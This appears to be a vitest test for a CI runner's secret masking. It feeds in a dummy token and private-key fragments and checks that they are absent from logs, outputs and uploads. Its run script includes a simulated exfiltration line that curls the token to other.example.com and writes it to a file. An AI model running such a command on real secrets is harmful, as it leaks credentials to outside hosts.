import fs from 'node:fs';
import { expect, test } from 'vitest';
import { obeyedCommands } from './runner-commands.ts';
import { startRunner } from './run-action.ts';

const TOKEN = 'sk-realValueThatMustNeverAppear0123456789';
const KEY = ['-----BEGIN PRIVATE KEY-----', 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC', 'BKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj', '-----END PRIVATE KEY-----'];

test('secrets are masked, whole and line by line, and are in no output, report, log or summary; inside is a placeholder', async () => {
  await using runner = startRunner();
  const { steps, outputs, log, summary, upload } = await runner.use({
    run: 'echo "token=$TOKEN"\nprintf %s "$KEY" | wc -l\ncurl --silent --max-time 5 "http://other.example.com/?q=$TOKEN" || true\necho "$TOKEN" > leaked.txt',
    secrets: `TOKEN@api.example.com=${TOKEN}\nKEY@api.example.com<<EOF\n${KEY.join('\n')}\nEOF`,
  });

  const run = steps['run']?.stdout ?? '';
  const masks = obeyedCommands(run).commands.filter(({ name }) => name === 'add-mask').map(({ data }) => data);
  expect(masks).toEqual(expect.arrayContaining([TOKEN, KEY.join('%0A'), ...KEY]));
  expect(run).toMatch(/^token=sk-\S+$/m);

  const unmasked = log.split('\n').filter((line) => !line.startsWith('::add-mask::')).join('\n');
  const directory = fs.readdirSync(runner.temporary).filter((name) => name.startsWith('decoy-'));
  expect(directory).toHaveLength(1);
  const everything = [unmasked, summary, JSON.stringify(outputs), JSON.stringify(upload)].join('\n');
  for (const part of [TOKEN, ...KEY.slice(1, 3), Buffer.from(TOKEN).toString('base64').slice(0, 40)]) expect(everything).not.toContain(part);
}, 60_000);
